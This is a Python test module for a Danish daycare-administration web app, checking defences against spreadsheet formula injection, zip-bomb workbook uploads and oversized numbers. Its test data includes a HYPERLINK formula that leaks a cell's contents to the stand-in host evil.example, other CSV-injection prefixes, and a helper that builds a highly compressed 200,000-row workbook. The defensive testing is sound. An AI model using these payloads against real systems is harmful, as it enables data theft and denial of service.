"""Spreadsheets in and out, through the real views.

- Out: text a person typed is never a formula in an export (OWASP "CSV injection"): every
  cell starting with "=", "+", "-", "@", a tab or a carriage return arrives with a leading
  single quote, as a string cell; amounts and dates stay number and date cells; the file
  is named in Danish with æ, ø and å spelt out.
- In: a small .xlsx holding 200,000 rows is refused in Danish at once, and nothing is
  imported; a sheet over the row limit is not read to its end.
- Numbers: an amount or count too large for any daycare gets a Danish error, not a 500.
"""

from __future__ import annotations

import csv
import io
import time
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from core.spreadsheets import append_row, csv_text
from devices.models import Device
from grants.models import Application, Grant, Pool
from institutions.models import ChildrenCount, Institution
from tests.devices.helpers import make_device
from tests.grants.helpers import admin_of, book, make_application, make_pool
from tests.grants.test_admin_views import pool_post

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&B3,"Klik her")'
ATTACKS = [FORMULA, "+45 1234", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HUGE = "99999999999999999999999"


def _workbook(response):
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _assert_no_formula(workbook) -> None:
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def _cell_with(workbook, text: str):
    """The one cell whose value is `text` behind the protective quote (XML reads a carriage
    return back as a line feed)."""
    shown = {"'" + text, "'" + text.replace("\r", "\n")}
    found = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value in shown
    ]
    assert found, f"{text!r} is not in the workbook neutralised"
    return found[0]


def _filename(response) -> str:
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; ")
    return disposition.split('filename="', 1)[1].rstrip('"')


# Exports: devices --------------------------------------------------------------------------


@pytest.fixture
def typed_devices(world):
    for number, text in enumerate(ATTACKS):
        make_device(world.institution, model=text, asset_tag=f"T-{number}", notes=text)
    make_device(
        world.institution,
        model="iPad 10",
        asset_tag="PRIS",
        price_ore=349_950,
        purchased_on=date(2026, 1, 15),
    )
    return world


def test_the_device_workbook_holds_typed_formulas_as_quoted_text(typed_devices, login):
    world = typed_devices
    response = login(world.user("staff")).get(
        reverse("devices:export", args=[world.institution.pk, "xlsx"])
    )

    workbook = _workbook(response)
    _assert_no_formula(workbook)
    for text in ATTACKS:
        cell = _cell_with(workbook, text)
        assert cell.data_type == "s"


def test_the_device_csv_holds_typed_formulas_as_quoted_text(typed_devices, login):
    world = typed_devices
    response = login(world.user("staff")).get(
        reverse("devices:export", args=[world.institution.pk, "csv"])
    )

    rows = _csv(response)
    models = {row[1] for row in rows[1:]}
    assert {"'" + text for text in ATTACKS} <= models
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "\t"))]


def test_the_device_workbook_has_number_and_date_cells_and_a_danish_name(typed_devices, login):
    world = typed_devices
    response = login(world.user("staff")).get(
        reverse("devices:export", args=[world.institution.pk, "xlsx"])
    )

    sheet = _workbook(response).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[3].value == "PRIS")
    purchased, price = row[6], row[7]
    assert purchased.is_date and purchased.value.date() == date(2026, 1, 15)
    assert price.data_type == "n" and price.value == 3499.5
    assert price.number_format == "#,##0.00"
    today = timezone.localdate()
    assert _filename(response) == f"udstyr-solstraalen-{today:%Y-%m-%d}.xlsx"


def test_the_device_csv_keeps_the_danish_amount_and_a_danish_name(typed_devices, login):
    world = typed_devices
    response = login(world.user("staff")).get(
        reverse("devices:export", args=[world.institution.pk, "csv"])
    )

    row = next(r for r in _csv(response) if r[3] == "PRIS")
    assert row[6:8] == ["2026-01-15", "3.499,50"]
    assert _filename(response) == f"udstyr-solstraalen-{timezone.localdate():%Y-%m-%d}.csv"


# Exports: the municipality's indicators ---------------------------------------------------


@pytest.fixture
def typed_daycare(world):
    Institution.objects.filter(pk=world.institution.pk).update(name=FORMULA, district="@SUM(A1)")
    return world


def test_the_indicator_workbook_holds_typed_formulas_as_quoted_text(typed_daycare, login):
    world = typed_daycare
    response = login(world.user("admin")).get(
        reverse("indicators:export_xlsx", args=[world.municipality.pk])
    )

    workbook = _workbook(response)
    _assert_no_formula(workbook)
    assert _cell_with(workbook, FORMULA).data_type == "s"
    assert _cell_with(workbook, "@SUM(A1)").data_type == "s"
    today = timezone.localdate()
    assert _filename(response) == f"indikatorer-koege-kommune-{today:%Y-%m-%d}.xlsx"


def test_the_indicator_csv_holds_typed_formulas_as_quoted_text(typed_daycare, login):
    world = typed_daycare
    response = login(world.user("admin")).get(
        reverse("indicators:export_csv", args=[world.municipality.pk])
    )

    rows = _csv(response)
    daycare = next(row for row in rows if "HYPERLINK" in row[0])
    assert daycare[:2] == ["'" + FORMULA, "'@SUM(A1)"]
    today = timezone.localdate()
    assert _filename(response) == f"indikatorer-koege-kommune-{today:%Y-%m-%d}.csv"


# Exports: the grant pools -------------------------------------------------------------------


def test_the_pool_workbook_quotes_formulas_and_keeps_amounts_and_dates(world, client):
    koege = world.municipality
    pool = make_pool(koege, name=FORMULA)
    application = make_application(
        pool, world.institution, state=Application.State.DECIDED, project="-1+1 robotter"
    )
    book(Grant.objects.get(application=application), kr=5_000)
    client.force_login(admin_of(koege))

    response = client.get(reverse("grants:municipality_export", args=[koege.pk]))

    assert response["Content-Type"].startswith(XLSX)
    workbook = _workbook(response)
    _assert_no_formula(workbook)
    assert _cell_with(workbook, FORMULA).data_type == "s"
    assert _cell_with(workbook, "-1+1 robotter").data_type == "s"
    pools = workbook.worksheets[0]
    start, end, total, committed = (pools.cell(row=2, column=c) for c in (3, 4, 5, 6))
    assert start.is_date and start.value.date() == pool.period_start
    assert end.is_date
    assert (total.data_type, total.value, total.number_format) == ("n", 100_000, "#,##0.00")
    assert committed.data_type == "n"
    today = timezone.localdate()
    assert _filename(response) == f"puljer-koege-kommune-{today:%Y-%m-%d}.xlsx"


# The one helper: numbers stay numbers ---------------------------------------------------


def test_a_negative_amount_stays_a_number_while_text_is_quoted():
    sheet = Workbook().active
    append_row(sheet, [Decimal("-1234.50"), -3, "-3", date(2026, 12, 7)])
    amount, count, text, day = sheet[1]
    assert (amount.data_type, amount.value) == ("n", Decimal("-1234.50"))
    assert (count.data_type, count.value) == ("n", -3)
    assert (text.data_type, text.value) == ("s", "'-3")
    assert day.is_date
    assert csv_text([[Decimal("-1234.50"), -3, "-3"]]) == "\ufeff-1.234,50;-3;'-3\r\n"


# Imports: the zip bomb ---------------------------------------------------------------------


def _big_workbook(rows: int, columns: list[str]) -> SimpleUploadedFile:
    """A real .xlsx made by openpyxl with `rows` rows below the header. The rows are put
    into the sheet's XML in one go: openpyxl takes most of a minute to write 200,000."""
    workbook = Workbook(write_only=True)
    workbook.create_sheet().append(columns)
    made = io.BytesIO()
    workbook.save(made)
    cells = list(zip("ABCDEFGH", ("tablet", "iPad 10", "Myren"), strict=False))[: len(columns)]
    body = "".join(
        f'<row r="{n}">'
        + "".join(f'<c r="{c}{n}" t="inlineStr"><is><t>{v}</t></is></c>' for c, v in cells)
        + "</row>"
        for n in range(2, rows + 2)
    )
    out = io.BytesIO()
    with zipfile.ZipFile(made) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", body.encode() + b"</sheetData>")
            packed.writestr(item.filename, data)
    return SimpleUploadedFile("regneark.xlsx", out.getvalue(), content_type=XLSX)


def test_a_small_workbook_of_200000_rows_is_refused_in_danish_before_it_is_read(world, login):
    upload = _big_workbook(200_000, ["type", "model"])
    assert upload.size < 2 * 1024 * 1024  # within the upload limit: only its inside is big
    client = login(world.user("leader"))

    started = time.monotonic()
    response = client.post(reverse("devices:import", args=[world.institution.pk]), {"file": upload})
    elapsed = time.monotonic() - started

    assert response.status_code == 200
    page = response.content.decode()
    assert "Filen blev ikke importeret" in page
    assert (
        "Regnearket fylder for meget, når det pakkes ud. Importér højst 5000 rækker ad gangen."
        in page
    )
    assert not Device.objects.exists()
    assert elapsed < 5


def test_a_workbook_over_the_row_limit_is_not_read_to_its_end(world, login):
    # Small enough when unpacked to pass the size check: only the row limit stops it.
    upload = _big_workbook(60_000, ["institution", "navn"])
    client = login(world.user("admin"))

    started = time.monotonic()
    response = client.post(
        reverse("institutions:municipality_import", args=[world.municipality.pk]),
        {"kind": "groups", "file": upload},
    )
    elapsed = time.monotonic() - started

    assert "Filen har mere end 5000 rækker." in response.content.decode()
    assert not world.institution.groups.filter(name="iPad 10").exists()
    assert elapsed < 5


def _onboarding_post(client, world, sheets: dict):
    from tests.institutions.workbooks import upload

    return client.post(
        reverse("institutions:workbook", args=[world.municipality.pk]),
        {"file": upload(world.municipality, sheets)},
    )


def test_the_onboarding_workbook_is_refused_when_too_large_unpacked(world, login, settings):
    from tests.institutions.workbooks import rows

    settings.ONBOARDING_MAX_UNPACKED_BYTES = 200_000
    guardians = [[f"F{n}", f"Forælder {n}", f"f{n}@familie.example", "B1"] for n in range(5000)]
    client = login(world.user("admin"))

    response = _onboarding_post(client, world, rows(Forældre=guardians))

    assert response.status_code == 400
    assert (
        "Regnearket fylder for meget, når det pakkes ud. Importér højst 100000 rækker ad gangen."
        in response.content.decode()
    )
    assert not Institution.objects.filter(external_key__isnull=False).exists()


def test_an_onboarding_sheet_over_the_row_limit_is_named_and_not_read_to_its_end(
    world, login, settings
):
    from tests.institutions.workbooks import rows

    settings.ONBOARDING_MAX_ROWS = 100
    guardians = [[f"F{n}", f"Forælder {n}", f"f{n}@familie.example", "B1"] for n in range(500)]
    client = login(world.user("admin"))

    response = _onboarding_post(client, world, rows(Forældre=guardians))

    assert response.status_code == 400
    assert "Arket “Forældre” har mere end 100 rækker." in response.content.decode()


def test_the_onboarding_template_quotes_a_name_that_looks_like_a_formula(world, login):
    world.municipality.name = '=HYPERLINK("http://example.org","Køge")'
    world.municipality.save()
    client = login(world.user("admin"))

    response = client.get(reverse("institutions:workbook_template", args=[world.municipality.pk]))

    cell = load_workbook(io.BytesIO(response.content))["Kommune"]["B2"]
    assert (cell.data_type, cell.value) == ("s", '\'=HYPERLINK("http://example.org","Køge")')


# Numbers too large for any daycare ---------------------------------------------------------


def test_a_huge_device_price_in_the_form_is_refused_in_danish(world, login):
    client = login(world.user("leader"))

    response = client.post(
        reverse("devices:device_create", args=[world.institution.pk]),
        {"kind": "tablet", "model": "iPad 10", "status": "available", "price_ore": HUGE},
    )

    assert response.status_code == 200
    assert "Beløbet kan højst være 1.000.000.000,00\u00a0kr." in response.content.decode()
    assert not Device.objects.exists()


def test_a_huge_device_price_in_a_csv_import_is_refused_in_danish(world, login):
    text = f"type;model;pris\ntablet;iPad 10;{HUGE}\n"
    upload = SimpleUploadedFile("udstyr.csv", text.encode(), content_type="text/csv")
    client = login(world.user("leader"))

    response = client.post(reverse("devices:import", args=[world.institution.pk]), {"file": upload})

    assert response.status_code == 200
    assert "Beløbet kan højst være 1.000.000.000,00\u00a0kr." in response.content.decode()
    assert not Device.objects.exists()


def test_a_huge_pool_total_is_refused_in_danish(world, client):
    client.force_login(admin_of(world.municipality))

    response = client.post(
        reverse("grants:pool_create", args=[world.municipality.pk]), pool_post(total_ore=HUGE)
    )

    assert response.status_code == 400
    assert "Beløbet kan højst være 1.000.000.000,00\u00a0kr." in response.content.decode()
    assert not Pool.objects.exists()


def test_a_huge_children_count_is_refused_in_danish(world, login):
    client = login(world.user("admin"))
    before = ChildrenCount.objects.count()

    response = client.post(
        reverse("institutions:counts", args=[world.institution.pk]),
        {
            "counted_on": timezone.localdate().isoformat(),
            "aged_0_2": HUGE,
            "aged_3_5": "10",
            "aged_6_plus": "0",
        },
    )

    assert response.status_code in (200, 400)
    assert "Denne værdi skal være mindre end eller lig 100000." in response.content.decode()
    assert ChildrenCount.objects.count() == before
